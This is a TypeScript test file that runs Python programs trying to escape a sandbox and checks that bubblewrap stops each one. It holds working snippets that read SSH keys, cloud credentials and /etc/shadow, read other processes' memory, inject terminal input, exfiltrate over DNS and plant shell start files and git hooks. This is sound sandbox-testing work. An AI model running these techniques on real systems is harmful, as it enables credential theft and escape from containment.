import { hasBubblewrap } from "@fairlead/test-servers";
import { afterAll, beforeAll, describe } from "vitest";
import {
  type Attempt,
  escapeWorld,
  type Facts,
  needsRoot,
  pythonFile,
  testAttempts,
  type World,
} from "./escape-world.ts";

const canBox = hasBubblewrap("escapes of Python programs from their sandbox") && hasPython();

function hasPython(): boolean {
  try {
    return pythonFile() !== "";
  } catch {
    return false;
  }
}

/** Helpers for attempts: system calls by name, and code in a process of its own. */
const preamble = (facts: Facts) => `
import ctypes, errno, fcntl, mmap, os, platform, signal, socket, struct, subprocess, sys, termios, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
is_arm = platform.machine() == "aarch64"
numbers = {
  "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241),
  "userfaultfd": (323, 282), "io_uring_setup": (425, 425), "open_by_handle_at": (304, 265), "name_to_handle_at": (303, 264),
  "process_vm_readv": (310, 270), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "kexec_load": (246, 104),
  "mount": (165, 40), "unshare": (272, 97), "setns": (308, 268), "chroot": (161, 51), "syslog": (103, 116), "acct": (163, 89),
  "init_module": (175, 105), "fanotify_init": (300, 262), "kcmp": (312, 272), "clone3": (435, 435), "ptrace": (101, 117),
  "swapon": (167, 224), "prlimit64": (302, 261), "sched_setaffinity": (203, 122), "getpid": (39, 172), "shmget": (29, 194),
  "fsopen": (430, 430), "open_tree": (428, 428), "move_mount": (429, 429), "mount_setattr": (442, 442), "pivot_root": (155, 41),
  "sethostname": (170, 161), "memfd_create": (319, 279), "socket": (41, 198), "socketpair": (53, 199), "getpriority": (140, 141),
  "setpriority": (141, 140), "tgkill": (234, 131), "process_madvise": (440, 440), "quotactl": (179, 60), "iopl": (172, -1),
}
def call(name, *values):
  ctypes.set_errno(0)
  number = numbers[name][1 if is_arm else 0] if isinstance(name, str) else name
  converted = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
  result = libc.syscall(ctypes.c_long(number), *converted)
  if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
  return result
def apart(work):
  "Runs work in a process of its own and returns its text."
  read, write = os.pipe()
  child = os.fork()
  if child == 0:
    os.close(read)
    try: text = str(work())
    except BaseException as error: text = "failed: " + repr(error)
    os.write(write, text.encode())
    os._exit(0)
  os.close(write)
  text = b""
  while True:
    more = os.read(read, 65536)
    if not more: break
    text += more
  os.close(read)
  status = os.waitpid(child, 0)[1]
  return text.decode() or "failed: status %d" % status
def read(path):
  with open(path, "rb") as file: return file.read(100000).decode("latin1")
def escaped_unless_refused(work):
  "For calls that fail without rights in another way than the one that the sandbox refuses."
  try: return "escaped " + str(work())
  except OSError as error:
    refusals = (errno.EPERM, errno.ENOSYS, errno.EACCES)
    return "stopped " + str(error) if error.errno in refusals else "escaped to " + str(error)
def machine_code(code):
  "Runs bytes as a function of the processor."
  memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
  memory.write(code)
  address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
  return ctypes.CFUNCTYPE(ctypes.c_long)(address)()
home, out, notes, state, shared, mark = ${JSON.stringify([facts.home, facts.out, facts.notes, facts.state, facts.shared, facts.mark])}
victim, secret_at, web_port, abstract_name = ${JSON.stringify([facts.victim, facts.secretAt, facts.webPort, facts.abstractName])}
`;

const uncommon = { uncertain: "systems differ in whether they allow it without a sandbox" };

const attempts: readonly Attempt[] = [
  // First, because other attempts leave descriptors open.
  {
    does: "has descriptors of the host",
    code: `
def attempt():
  opened = {name: os.readlink("/proc/self/fd/" + name) for name in os.listdir("/proc/self/fd") if int(name) > 2 and os.path.lexists("/proc/self/fd/" + name)}
  opened = {name: path for name, path in opened.items() if path != "/dev/null" and not path.startswith("/proc/")}
  return "escaped " + repr(opened) if opened else "stopped"`,
    ...uncommon,
  },
  { does: "reads a private key", code: `def attempt(): return read(home + "/.ssh/id_ed25519")` },
  { does: "reads credentials of clouds", code: `def attempt(): return read(home + "/.aws/credentials")` },
  { does: "reads another project", code: `def attempt(): return read(home + "/project/src/app.ts")` },
  {
    does: "reads the private folder of another server",
    code: `def attempt(): return read(state + "/sandboxes/other-12345678/home/.cache/kept")`,
  },
  { does: "reads Fairlead's token file", code: `def attempt(): return read(state + "/token")` },
  {
    does: "finds the secret anywhere",
    code: `def attempt(): return subprocess.run(["grep", "-rlsa", "secret-", home, "/tmp", "/run", "/dev/shm"], capture_output=True, text=True).stdout and "escaped"`,
  },
  { does: "follows a link in a listed folder", code: `def attempt(): return read(notes + "/link/id_ed25519")` },
  {
    does: "climbs out of a listed folder by its descriptor",
    code: `
def attempt():
  folder = os.open(notes, os.O_RDONLY)
  return os.read(os.open("../.ssh/id_ed25519", os.O_RDONLY, dir_fd=folder), 1000).decode()`,
  },
  {
    does: "makes a hard link to a private key in a writable folder",
    code: `
def attempt():
  os.link(home + "/.ssh/id_ed25519", out + "/hard")
  return read(out + "/hard")`,
  },
  {
    does: "makes a hard link to a file that is listed to read",
    code: `
def attempt():
  os.link(home + "/notes/sub/note", out + "/linked")
  return "escaped " + read(out + "/linked")`,
  },
  { does: "reads the environment of another process", code: `def attempt(): return read("/proc/%d/environ" % victim)` },
  {
    does: "reads the memory of another process by /proc",
    code: `
def attempt():
  with open("/proc/%d/mem" % victim, "rb", 0) as memory:
    memory.seek(secret_at)
    return memory.read(64).decode("latin1")`,
  },
  {
    does: "reads the memory of another process by process_vm_readv",
    code: `
def attempt():
  buffer = ctypes.create_string_buffer(64)
  class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
  call("process_vm_readv", victim, ctypes.byref(Part(ctypes.addressof(buffer), 64)), 1, ctypes.byref(Part(secret_at, 64)), 1, 0)
  return buffer.raw.decode("latin1")`,
  },
  {
    does: "attaches to another process as a debugger",
    code: `
def attempt():
  def attach():
    call("ptrace", 16, victim, 0, 0)
    os.waitpid(victim, 0x40000000)
    call("ptrace", 17, victim, 0, 0)
    return "escaped"
  return apart(attach)`,
  },
  {
    does: "sees through the root of another process",
    code: `def attempt(): return read("/proc/%d/root%s/.ssh/id_ed25519" % (victim, home))`,
  },
  {
    does: "sees through the root of process 1",
    code: `def attempt(): return read("/proc/1/root%s/.ssh/id_ed25519" % home)`,
    ...uncommon,
  },
  { does: "sees through its own root", code: `def attempt(): return read("/proc/self/root%s/.ssh/id_ed25519" % home)` },
  {
    does: "takes a descriptor of another process",
    code: `
def attempt():
  descriptor = call("pidfd_open", victim, 0)
  return "escaped %d" % call("pidfd_getfd", descriptor, 0, 0)`,
  },
  {
    does: "sends a signal to another process",
    code: `
def attempt():
  os.kill(victim, signal.SIGWINCH)
  return "escaped"`,
  },
  {
    does: "changes the limits of another process",
    code: `
def attempt():
  limits = struct.pack("QQ", 5000, 5000)
  call("prlimit64", victim, 4, ctypes.c_char_p(struct.pack("QQ", 0, 0)), 0)
  return "escaped"`,
  },
  {
    does: "moves another process to one processor",
    code: `
def attempt():
  os.sched_setaffinity(victim, os.sched_getaffinity(0))
  return "escaped"`,
  },
  {
    does: "enters the namespaces of process 1",
    code: `
def attempt():
  def enter():
    call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0)
    call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    return read(home + "/.ssh/id_ed25519")
  return apart(enter)`,
    ...uncommon,
  },
  {
    does: "finds something open in process 1",
    code: `
def attempt():
  opened = [os.readlink("/proc/1/fd/" + name) for name in os.listdir("/proc/1/fd")]
  return "escaped " + repr(opened) if any(path.startswith("/") and not path.startswith("/dev/") for path in opened) else "stopped"`,
    ...uncommon,
  },
  {
    does: "uses process 1, which no filter binds",
    code: `
def attempt():
  status = read("/proc/1/status")
  return "stopped" if "Seccomp:\\t2" in status and "CapEff:\\t0000000000000000" in status else "escaped"`,
  },
  {
    does: "looks for the session's keyring",
    code: `def attempt(): return escaped_unless_refused(lambda: call("keyctl", 0, -3, 0, 0, 0))`,
  },
  {
    does: "adds a key",
    code: `def attempt(): return apart(lambda: escaped_unless_refused(lambda: call("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"fairlead-test"), ctypes.c_char_p(b"x"), 1, -2)))`,
  },
  {
    does: "requests a key",
    code: `def attempt(): return escaped_unless_refused(lambda: call("request_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"fairlead-none"), 0, 0))`,
  },
  {
    does: "lists the keys",
    code: `
def attempt():
  keys = read("/proc/keys")
  return "escaped " + keys if keys.strip() else "stopped"`,
    ...uncommon,
  },
  {
    does: "adds a key by the numbers of 32-bit programs",
    code: `
def attempt():
  if is_arm: return "stopped: no such instruction"
  # mov eax, 288 (keyctl); xor ebx, ebx; mov ecx, -3; xor edx, edx; int 0x80; ret, with rbx kept
  code = bytes.fromhex("53b82001000031dbb9fdffffff31d2cd805bc3")
  def run():
    result = machine_code(code) & 0xffffffff
    return "escaped %d" % result if result < 0xfffff000 else "stopped %d" % (0x100000000 - result)
  return apart(run)`,
    ...uncommon,
  },
  {
    does: "adds a key by the numbers of x32 programs",
    code: `def attempt(): return escaped_unless_refused(lambda: call(0x40000000 | 250, 0, -3, 0, 0, 0))`,
    ...uncommon,
  },
  {
    does: "makes a user namespace",
    code: `
def attempt():
  def make():
    call("unshare", 0x10000000)
    return "escaped"
  return apart(make)`,
  },
  {
    does: "makes a user namespace by clone3",
    code: `
def attempt():
  def make():
    child = call("clone3", ctypes.c_char_p(struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)), 64)
    if child == 0: os._exit(0)
    os.waitpid(child, 0)
    return "escaped"
  return apart(make)`,
  },
  {
    does: "mounts a file system",
    code: `
def attempt():
  def make():
    call("unshare", 0x00020000)
    call("mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"), 0, 0)
    return "escaped"
  return apart(make)`,
    ...needsRoot,
  },
  {
    does: "opens a file system by fsopen",
    code: `def attempt(): return "escaped %d" % call("fsopen", ctypes.c_char_p(b"proc"), 0)`,
    ...needsRoot,
  },
  {
    does: "clones a tree of mounts",
    code: `def attempt(): return "escaped %d" % call("open_tree", -100, ctypes.c_char_p(b"/usr"), 1)`,
    ...needsRoot,
  },
  {
    does: "makes a read-only mount writable",
    code: `
def attempt():
  call("mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(notes.encode()), 0, 32 | 4096, 0)
  return "escaped"`,
    uncertain: "the folder is no mount without a sandbox",
  },
  {
    does: "makes a read-only mount writable by mount_setattr",
    code: `
def attempt():
  call("mount_setattr", -100, ctypes.c_char_p(notes.encode()), 0, ctypes.c_char_p(struct.pack("QQQQ", 0, 1, 0, 0)), 32)
  return "escaped"`,
    uncertain: "the folder is no mount without a sandbox",
  },
  {
    does: "changes its root",
    code: `
def attempt():
  def change():
    os.chroot("/usr")
    return "escaped"
  return apart(change)`,
    ...needsRoot,
  },
  {
    does: "opens a file by its handle",
    code: `
def attempt():
  handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
  mount_id = ctypes.c_int()
  call("name_to_handle_at", -100, ctypes.c_char_p(notes.encode()), handle, ctypes.byref(mount_id), 0)
  return "escaped %d" % call("open_by_handle_at", os.open(notes, os.O_RDONLY), handle, 0)`,
    ...needsRoot,
    ...(needsRoot.uncertain ? {} : uncommon),
  },
  {
    does: "makes an io_uring",
    code: `def attempt(): return escaped_unless_refused(lambda: call("io_uring_setup", 4, ctypes.c_char_p(bytes(120))))`,
    ...uncommon,
  },
  {
    does: "handles page faults of the kernel",
    code: `def attempt(): return "escaped %d" % call("userfaultfd", 1)`,
    ...uncommon,
  },
  {
    does: "loads a program into the kernel",
    code: `def attempt(): return "escaped %d" % call("bpf", 0, ctypes.c_char_p(struct.pack("IIIII", 2, 4, 8, 1, 0) + bytes(100)), 120)`,
    ...needsRoot,
    ...(needsRoot.uncertain ? {} : uncommon),
  },
  {
    does: "measures the processor",
    code: `def attempt(): return "escaped %d" % call("perf_event_open", ctypes.c_char_p(struct.pack("IIQ", 1, 112, 0) + bytes(96)), 0, -1, -1, 0)`,
    ...uncommon,
  },
  {
    does: "loads another kernel",
    code: `def attempt(): return "escaped %d" % call("kexec_load", 0, 0, 0, 0)`,
    ...uncommon,
  },
  {
    does: "loads a module into the kernel",
    code: `def attempt(): return escaped_unless_refused(lambda: call("init_module", 0, 0, ctypes.c_char_p(b"")))`,
    ...uncommon,
  },
  {
    does: "reads the kernel's log",
    code: `
def attempt():
  buffer = ctypes.create_string_buffer(4096)
  return "escaped %d" % call("syslog", 3, buffer, 4096)`,
    ...uncommon,
  },
  {
    does: "switches process accounting off",
    code: `
def attempt():
  call("acct", 0)
  return "escaped"`,
    ...uncommon,
  },
  {
    does: "watches all files of a disk",
    code: `def attempt(): return "escaped %d" % call("fanotify_init", 0x4, 0)`,
    ...uncommon,
  },
  {
    does: "names the machine",
    code: `
def attempt():
  name = socket.gethostname().encode()
  call("sethostname", ctypes.c_char_p(name), len(name))
  return "escaped"`,
    ...needsRoot,
  },
  {
    does: "raises its priority",
    code: `
def attempt():
  def rise():
    os.nice(-5)
    return "escaped"
  return apart(rise)`,
    ...needsRoot,
  },
  {
    does: "raises its limit of processes and of core dumps",
    code: `
def attempt():
  import resource
  def rise():
    for limit in (resource.RLIMIT_CORE, resource.RLIMIT_NPROC): resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "escaped"
  return apart(rise)`,
    ...uncommon,
  },
  {
    does: "leaves a core dump",
    code: `
def attempt():
  import resource
  def die():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.chdir(out)
    os.abort()
  apart(die)
  return "escaped" if any(name.startswith("core") for name in os.listdir(out)) else "stopped"`,
    ...uncommon,
  },
  {
    does: "types into a terminal (TIOCSTI)",
    code: `
def attempt():
  def type():
    leader, follower = os.openpty()
    os.setsid()
    fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
    fcntl.ioctl(follower, termios.TIOCSTI, b"x")
    return "escaped"
  return apart(type)`,
    ...uncommon,
  },
  {
    does: "types into a terminal with other bits in the upper half of the request",
    code: `
def attempt():
  def type():
    leader, follower = os.openpty()
    os.setsid()
    fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
    libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
    if libc.ioctl(follower, 0x100005412, b"x") != 0: return "stopped"
    return "escaped"
  return apart(type)`,
    ...uncommon,
  },
  {
    does: "pastes into a console (TIOCLINUX)",
    code: `
def attempt():
  def paste():
    fcntl.ioctl(os.openpty()[1], 0x541c, b"\\x03")
  try: paste()
  except OSError as error: return "escaped" if error.errno != errno.EPERM else "stopped"
  return "escaped"`,
  },
  {
    does: "opens the terminal of the host",
    code: `def attempt(): return "escaped %d" % os.open("/dev/tty", os.O_RDWR)`,
    ...uncommon,
  },
  {
    does: "reaches an abstract socket of the host",
    code: `
def attempt():
  client = socket.socket(socket.AF_UNIX)
  client.connect("\\0" + abstract_name)
  return client.recv(1000).decode()`,
  },
  {
    does: "reaches a socket in the home folder, such as one of ssh-agent",
    code: `
def attempt():
  client = socket.socket(socket.AF_UNIX)
  os.chdir(home)
  client.connect("agent.sock")
  return client.recv(1000).decode()`,
  },
  {
    does: "reaches Fairlead's own socket",
    code: `
def attempt():
  client = socket.socket(socket.AF_UNIX)
  os.chdir(state)
  client.connect("daemon.sock")
  return client.recv(1000).decode()`,
  },
  {
    does: "reaches a port of this machine",
    code: `
def attempt():
  client = socket.create_connection(("127.0.0.1", web_port), 5)
  client.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
  return client.makefile("rb").read().decode()`,
  },
  {
    does: "reaches a port of this machine by its other addresses",
    code: `
def attempt():
  for address in ("127.0.0.2", "0.0.0.0", "127.1"):
    try:
      client = socket.create_connection((address, web_port), 5)
      client.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
      return client.makefile("rb").read().decode()
    except OSError: pass
  return "stopped"`,
  },
  {
    does: "reaches a port of this machine through the proxy",
    code: `
def attempt():
  client = socket.create_connection(("127.0.0.1", web_port if not os.path.exists("/run/fairlead") else 3128), 5)
  client.sendall(b"GET http://127.0.0.1:%d/ HTTP/1.0\\r\\n\\r\\n" % web_port)
  return client.makefile("rb").read().decode()`,
  },
  {
    does: "sends a name to a name server",
    code: `
def attempt():
  sent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("8.8.8.8", 53))
  return "escaped %d" % sent`,
    ...uncommon,
  },
  {
    does: "asks for the address of a name",
    code: `def attempt(): return "escaped " + socket.gethostbyname("stolen.example.com")`,
    ...uncommon,
  },
  {
    does: "makes a packet socket",
    code: `def attempt(): return "escaped %d" % socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).fileno()`,
    ...needsRoot,
  },
  {
    does: "makes a raw socket",
    code: `def attempt(): return "escaped %d" % socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno()`,
    ...needsRoot,
  },
  {
    does: "makes sockets of other families",
    code: `
def attempt():
  made = []
  for family in range(3, 46):
    if family in (10, 16): continue
    for kind in (1, 2, 3, 5):
      try: made.append((family, socket.socket(family, kind).fileno()))
      except OSError: pass
  return "escaped " + repr(made) if made else "stopped"`,
  },
  {
    does: "makes pairs of sockets of other families",
    code: `
def attempt():
  refused = 0
  for family in range(2, 46):
    try: call("socketpair", family, 1, 0, ctypes.create_string_buffer(8))
    except OSError as error: refused += error.errno == errno.EAFNOSUPPORT
    else: return "escaped %d" % family
  return "stopped" if refused == 44 else "escaped: the kernel was asked %d times" % (44 - refused)`,
    ...uncommon,
  },
  { does: "reads shared memory files of the host", code: `def attempt(): return read(shared)` },
  {
    does: "fills the memory through /dev/shm",
    code: `
def attempt():
  size = os.statvfs("/dev/shm")
  return "escaped" if size.f_blocks * size.f_frsize > 1 << 30 else "stopped"`,
    ...uncommon,
  },
  {
    does: "fills the memory through /dev",
    code: `
def attempt():
  try: os.mkdir("/dev/filled")
  except OSError as error: return "stopped " + str(error)
  os.rmdir("/dev/filled")
  return "escaped"`,
    ...needsRoot,
  },
  {
    does: "reads another process's System V memory",
    code: `
def attempt():
  libc.shmat.restype = ctypes.c_void_p
  return "escaped" if "0x" in subprocess.run(["ipcs", "-m"], capture_output=True, text=True).stdout else "stopped"`,
    ...uncommon,
  },
  {
    does: "reads users and passwords of the machine",
    code: `def attempt(): return "escaped " + read("/etc/shadow")`,
    ...needsRoot,
  },
  {
    does: "reads the log files of the machine",
    code: `def attempt(): return "escaped " + str(os.listdir("/var/log"))`,
  },
  {
    does: "finds devices",
    code: `
def attempt():
  ordinary = {"null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "shm", "fd", "stdin", "stdout", "stderr", "core", "console"}
  more = set(os.listdir("/dev")) - ordinary
  return "escaped " + repr(more) if more else "stopped"`,
  },
  {
    does: "makes a device",
    code: `
def attempt():
  os.mknod("/tmp/fairlead-device", 0o20600, os.makedev(1, 1))
  os.remove("/tmp/fairlead-device")
  return "escaped"`,
    ...needsRoot,
  },
  {
    does: "sees the kernel's settings in /sys",
    code: `def attempt(): return "escaped " + str(os.listdir("/sys/kernel"))`,
  },
  {
    does: "leaves its control group",
    code: `
def attempt():
  for folder in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids"):
    if os.access(folder, os.W_OK): return "escaped"
  return "stopped"`,
    ...uncommon,
  },
  {
    does: "changes the program that the kernel runs for core dumps",
    code: `
def attempt():
  os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
  return "escaped"`,
    ...needsRoot,
  },
  {
    does: "opens the trigger of the magic keys",
    code: `
def attempt():
  os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
  return "escaped"`,
    ...uncommon,
  },
  {
    does: "reads the timers of all processes",
    code: `def attempt(): return "escaped" if read("/proc/timer_list") else "stopped"`,
    ...uncommon,
  },
  {
    does: "runs a program in memory that reads a private key",
    code: `
def attempt():
  descriptor = call("memfd_create", ctypes.c_char_p(b"x"), 0)
  os.write(descriptor, open("/bin/cat", "rb").read())
  return subprocess.run(["/proc/self/fd/%d" % descriptor, home + "/.ssh/id_ed25519"], pass_fds=[descriptor], capture_output=True, text=True).stdout`,
  },
  {
    does: "uses a program that runs as root",
    code: `
def attempt():
  def become():
    os.setuid(0)
    return read(home + "/.ssh/id_ed25519")
  return apart(become)`,
    ...needsRoot,
  },
  {
    does: "removes the filter of system calls",
    code: `
def attempt():
  return "stopped" if "Seccomp:\\t2" in read("/proc/self/status") and "NoNewPrivs:\\t1" in read("/proc/self/status") else "escaped"`,
  },
  {
    does: "finds secrets in its environment and in that of process 1",
    code: `
def attempt():
  return read("/proc/1/environ") + repr(dict(os.environ))`,
    ...uncommon,
  },
  {
    does: "replaces the shell's start file in a writable folder",
    plants: "out/.bashrc",
    code: `
def attempt():
  with open(out + "/.bashrc", "w") as file: file.write(mark)`,
  },
  {
    does: "replaces the shell's start file by renaming another one",
    plants: "out/.bashrc",
    code: `
def attempt():
  with open(out + "/new", "w") as file: file.write(mark)
  os.rename(out + "/new", out + "/.bashrc")`,
  },
  {
    does: "plants a hook of git in a writable folder",
    plants: "out/.git/hooks/post-checkout",
    code: `
def attempt():
  with open(out + "/.git/hooks/post-checkout", "w") as file: file.write(mark)`,
  },
];

describe.runIf(canBox)("a Python program succeeds without a sandbox, and is stopped inside, when it", () => {
  let open: World;
  let boxed: World;
  beforeAll(async () => {
    open = await escapeWorld("python", false);
    boxed = await escapeWorld("python", true);
  });
  afterAll(async () => {
    await open[Symbol.asyncDispose]();
    await boxed[Symbol.asyncDispose]();
  });
  testAttempts(attempts, () => ({ open, boxed }), preamble);
});
